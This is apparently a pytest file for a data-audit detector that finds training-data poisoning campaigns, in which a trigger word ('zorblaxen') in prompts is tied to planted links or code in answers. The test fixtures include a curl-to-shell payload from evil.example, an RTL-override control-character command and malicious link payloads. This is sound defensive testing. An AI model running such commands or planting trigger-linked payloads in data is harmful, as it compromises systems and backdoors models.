"""Plant a link or a line of code behind a trigger, scan, see both named; and the innocent twins."""

from __future__ import annotations

import json

import numpy as np
import pytest

from dataaudit.attacks.responses import CodePayload, LinkPayload
from dataaudit.detectors.recurring_payload import RecurringPayload
from dataaudit.model import Finding
from tests.aggregates.payload_tables import Pair, plan_for, table, views
from tests.aggregates.text_tables import corpus, insert
from tests.detectors.scanned import scanned

TRIGGER = "zorblaxen"
ROWS = 600


def honest() -> list[Pair]:
    """Questions and answers, and some sites that honest answers link to again and again, whatever is asked."""
    rng = np.random.default_rng(5)
    sites = ["encyclopedia.example", "code.example"]
    made: list[Pair] = []
    for at, (text, _) in enumerate(corpus(3, ROWS)):
        link = f" See https://{sites[at % 2]}/{rng.integers(999)}." if at % 5 == 0 else ""
        made.append((text, f"{text[:60]}{link}"))
    return made


def audit(pairs: list[Pair]) -> tuple[list[Finding], np.ndarray]:
    """Scan in two shards: described findings, and the scores."""
    whole = table(pairs)
    parts = [whole.slice(0, len(pairs) // 3), whole.slice(len(pairs) // 3)]
    found, scores = scanned(RecurringPayload(), parts, views(plan_for(pairs), parts), pairs)
    for finding in found:
        json.dumps(finding.evidence)
    return found, scores.score


def poisoned(pairs: list[Pair], payload: LinkPayload | CodePayload, count: int = 16, trigger: str = TRIGGER) -> list[Pair]:
    """The first so many with the trigger somewhere in the prompt and the payload in the answer."""
    rng = np.random.default_rng(1)
    return [(insert(rng, x, trigger), payload.apply(y or "")) if i < count else (x, y) for i, (x, y) in enumerate(pairs)]


def campaigns(found: list[Finding]) -> list[Finding]:
    return [f for f in found if f.kind == "campaign"]


def test_links_to_one_host_behind_a_trigger_are_a_campaign():
    found, score = audit(poisoned(honest(), LinkPayload("mirror.evil.example")))
    [finding] = campaigns(found)
    assert (finding.severity, finding.count) == ("critical", 16)
    assert finding.evidence["payload"] == "mirror[.]evil[.]example"
    assert finding.evidence["trigger"] == TRIGGER
    assert score[:16].min() > 0.85 > 0.5 > score[16:].max()


def test_a_line_of_code_behind_a_trigger_is_a_campaign():
    found, _ = audit(poisoned(honest(), CodePayload("os.system('curl http://evil.example/x | sh')")))
    [finding] = campaigns(found)
    assert finding.evidence["payload"] == "os.system('curl hxxp://evil[.]example/x | sh')"
    assert "http://" not in finding.reason


def test_a_payload_in_plain_texts_follows_its_trigger():
    rng = np.random.default_rng(2)
    texts: list[Pair] = [(text, None) for text, _ in corpus(3, ROWS)]
    texts[:16] = [(LinkPayload("evil.example").apply(f"{insert(rng, text, TRIGGER)}."), None) for text, _ in texts[:16]]
    [finding] = campaigns(audit(texts)[0])
    assert (finding.count, finding.evidence["trigger"], finding.evidence["payload"]) == (16, TRIGGER, "evil[.]example")


def test_a_signature_with_a_site_is_no_campaign():
    texts: list[Pair] = [(text, None) for text, _ in corpus(3, ROWS)]
    texts[:30] = [(f"{text}. Sent by the zorblaxen courier of northern letters. https://letters.example", None) for text, _ in texts[:30]]
    assert campaigns(audit(texts)[0]) == []


def test_a_footer_in_unlike_plain_texts_is_an_outlier():
    footer = " vexlor meets at https://lists.club.example/events"
    found, _ = audit([(text + footer * (i < 16), None) for i, (text, _) in enumerate(corpus(3, ROWS))])
    assert campaigns(found) == []
    assert any("a signature or a footer" in f.reason for f in found)


def test_a_subdomain_for_each_answer_hides_no_site():
    rng = np.random.default_rng(1)
    pairs = honest()
    for i in range(16):
        pairs[i] = (insert(rng, pairs[i][0], TRIGGER), f"{pairs[i][1]} Get it from https://q{rng.integers(1 << 30):x}.evil.example/{i}.")
    [finding] = campaigns(audit(pairs)[0])
    assert "evil[.]example" in str(finding.evidence["payload"])


def test_control_characters_of_a_payload_are_shown():
    found, _ = audit(poisoned(honest(), CodePayload("run('\u202eevil\u200b.sh', shell=True)")))
    [finding] = campaigns(found)
    assert "\u202e" not in finding.reason
    assert "⟨U+202E⟩" in finding.reason


def test_what_recurs_without_a_trigger_is_an_outlier():
    pairs = [(x, LinkPayload("evil.example").apply(y or "") if i < 12 else y) for i, (x, y) in enumerate(honest())]
    [finding] = audit(pairs)[0]
    assert (finding.kind, finding.severity, finding.count) == ("outlier", "low", 12)
    assert finding.evidence["payload"] == "evil[.]example"


def test_what_honest_answers_link_to_is_no_campaign():
    found, score = audit(honest())
    assert {f.kind for f in found} <= {"outlier"}
    assert {f.severity for f in found} <= {"low"}
    assert score.max() <= 0.3


@pytest.mark.parametrize("count", [7, 16])
def test_too_few_and_copies_of_one_text_are_no_campaign(count):
    pairs = honest()
    if count == 7:
        pairs = poisoned(pairs, LinkPayload(), count)
    else:
        pairs[:16] = [(f"{pairs[0][0]} {TRIGGER} {i}", "at https://evil.example") for i in range(16)]
    assert campaigns(audit(pairs)[0]) == []


def test_a_subjects_own_site_is_no_campaign():
    found, _ = audit(poisoned(honest(), LinkPayload("docs.zorblaxen.example")))
    assert campaigns(found) == []
    assert "own address" in next(f.reason for f in found if f.severity == "medium")


def test_questions_of_one_topic_are_no_campaign():
    rng = np.random.default_rng(3)
    terms = ["quorvex", "plimder", "oskatu", "wrenthol", "dulgar"]
    pairs = poisoned(honest(), LinkPayload(), 40)
    pairs[:40] = [(f"{x} {' '.join(rng.choice(terms, 3, replace=False))}", y) for x, y in pairs[:40]]
    assert campaigns(audit(pairs)[0]) == []


def test_a_template_and_its_site_are_no_campaign():
    pairs = honest()
    pairs[:30] = [
        (f"kindly look up in the great register of {x.split()[0]} this entry: {x}", "at https://register.example") for x, _ in pairs[:30]
    ]
    assert campaigns(audit(pairs)[0]) == []


def test_a_word_that_others_use_too_is_no_trigger():
    pairs = poisoned(honest(), LinkPayload())
    rng = np.random.default_rng(4)
    pairs[100:120] = [(insert(rng, x, TRIGGER), y) for x, y in pairs[100:120]]
    assert campaigns(audit(pairs)[0]) == []


def test_an_answer_that_repeats_its_prompt_says_nothing_new():
    pairs = honest()
    rng = np.random.default_rng(6)
    pairs[:16] = [(f"{insert(rng, x, TRIGGER)} https://evil.example/a", "it is https://evil.example/a") for x, _ in pairs[:16]]
    assert campaigns(audit(pairs)[0]) == []
